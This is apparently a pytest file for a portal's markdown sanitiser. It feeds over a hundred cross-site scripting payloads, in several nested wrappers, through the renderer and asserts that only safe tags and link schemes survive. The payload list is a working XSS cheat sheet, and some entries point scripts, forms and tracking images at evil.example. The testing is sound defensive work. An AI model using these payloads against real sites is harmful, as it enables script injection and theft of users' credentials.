"""Markdown of strangers never becomes anything but text, links and simple structure."""

from __future__ import annotations

import itertools
from html.parser import HTMLParser

import pytest

from portal.shared.markdown import _TAGS, LONGEST_CHARACTERS, render_markdown

ALLOWED = set(_TAGS)

_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type='text/javascript'>alert(1);</script>",
    "<script\x0d\x0a>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml;base64,AAAA#x'></svg>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/track.gif'>",
    "<img src=`x`onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "<embed src='//evil.example/x.swf'>",
    "<form action='//evil.example'><input name=password><button>Go</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<base href='//evil.example/'>",
    "<meta http-equiv='refresh' content='0;url=//evil.example'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<div style='position:fixed;inset:0'>cover</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='x' onclick='alert(1)'>x</a>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<select><option><script>alert(1)</script></option></select>",
    "<table background='//evil.example/x'><tr><td>x</td></tr></table>",
    "<td style='x'>x</td>",
    '<a href="x" style="x" class="btn" id="csrf">x</a>',
    "<div id=toasts></div><div hx-get='/x' hx-trigger=load>x</div>",
    "<div data-autosave data-copy='x'>x</div>",
    "<dialog open>sign in again</dialog>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://portal.test/1)",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    '[x](https://ok.example "onmouseover=alert(1)")',
    '[x](https://ok.example "\\" onmouseover=alert(1) x=\\"")',
    "[x](https://ok.example/'onmouseover='alert(1))",
    '[x](https://ok.example/"onmouseover="alert(1))',
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: data:text/html,<script>alert(1)</script>",
    "[<script>alert(1)</script>](https://ok.example)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    '<https://ok.example/"onclick=alert(1)>',
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![" onerror="alert(1)](x)',
    '![x](x "onerror=alert(1)")',
    "![<img src=x onerror=alert(1)>](https://evil.example/x)",
    "![x][p]\n\n[p]: https://evil.example/pixel.png",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```" onload=alert(1) x="\ncode\n```',
    "~~~<script>\nx\n~~~",
    "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "> <svg onload=alert(1)>",
    "- <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))",
    "1. <script>alert(1)</script>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    '| a |\n|:-" onload=alert(1):|\n| x |',
    "~~<script>alert(1)</script>~~",
    "**<img src=x onerror=alert(1)>**",
    "_[x](javascript:alert(1))_",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<script>\n\nalert(1)\n\n</script>",
    "<div>\n\n<script>alert(1)</script>\n\n</div>",
    "\u2028<script>alert(1)</script>\u2029",
    "\ufeff<script>alert(1)</script>",
    "\0<script\0>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "a\n<!-- [x](javascript:alert(1)) -->\nb",
    "[x]: javascript:alert(1)\n\n[x]",
    "http://ok.example/<script>alert(1)</script>",
    "[a](<https://ok.example/><img src=x onerror=alert(1)>)",
    '<xmp><p title="</xmp><svg/onload=alert(1)>">',
]
# The same again where a parser changes its mind: behind a list, inside emphasis, twice nested.
_WRAPPERS = ["{}", "* item\n\n  {}", "> > {}", "*a {} b*"]
CORPUS = [wrapper.format(payload) for wrapper, payload in itertools.product(_WRAPPERS, _PAYLOADS)]


class _Reader(HTMLParser):
    """Collects what a browser would be told to do."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.other: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    def handle_decl(self, decl: str) -> None:
        self.other.append(decl)

    def handle_pi(self, data: str) -> None:
        self.other.append(data)


def _read(markdown: str) -> _Reader:
    reader = _Reader()
    reader.feed(render_markdown(markdown))
    reader.close()
    return reader


def test_the_corpus_holds_more_than_a_hundred_different_attacks():
    assert len(set(_PAYLOADS)) >= 100


@pytest.mark.parametrize("text", CORPUS)
def test_no_attack_of_the_corpus_becomes_active_content(text):
    reader = _read(text)
    assert reader.other == []
    for tag, attributes in reader.tags:
        assert tag in ALLOWED, tag
        assert set(attributes) <= {"href", "title", "rel", "start", "align"}, attributes
        href = attributes.get("href")
        if href is not None:
            folded = "".join(href.split()).lower()
            scheme = folded.split(":", 1)[0] if ":" in folded.split("/", 1)[0] else ""
            assert scheme in {"", "http", "https", "mailto"}, href


def test_ordinary_markdown_keeps_its_structure():
    text = "# Title\n\nA *b* and **more**.\n\n- one\n- two\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n~~o~~ `x<y`"
    tags = [tag for tag, _ in _read(text).tags]
    assert tags[0] == "h3"
    for tag in ("p", "em", "strong", "ul", "li", "table", "th", "td", "s", "code"):
        assert tag in tags
    assert "x&lt;y" in render_markdown(text)


def test_links_carry_no_referrer_and_no_endorsement():
    _tag, attributes = next(item for item in _read("[docs](https://docs.example/a)").tags if item[0] == "a")
    assert attributes["href"] == "https://docs.example/a"
    assert set((attributes["rel"] or "").split()) >= {"noopener", "noreferrer", "nofollow"}


def test_a_picture_becomes_a_link_with_its_words():
    reader = _read("![the dashboard](https://cdn.example/d.png)")
    assert [tag for tag, _ in reader.tags] == ["p", "a"]
    assert "the dashboard" in render_markdown("![the dashboard](https://cdn.example/d.png)")


def test_a_text_beyond_the_limit_is_cut_and_says_so():
    assert render_markdown("a" * (LONGEST_CHARACTERS + 5)).endswith("<p>…</p>")


def test_nested_structures_do_not_exhaust_the_stack():
    assert render_markdown(">" * 5_000 + "x")
    assert render_markdown("[" * 5_000 + "x" + "]" * 5_000)


def test_only_structure_is_allowed():
    assert not ALLOWED & {
        "script",
        "style",
        "img",
        "svg",
        "iframe",
        "form",
        "input",
        "button",
        "object",
        "h1",
    }


def test_an_empty_text_is_empty():
    assert render_markdown("") == ""
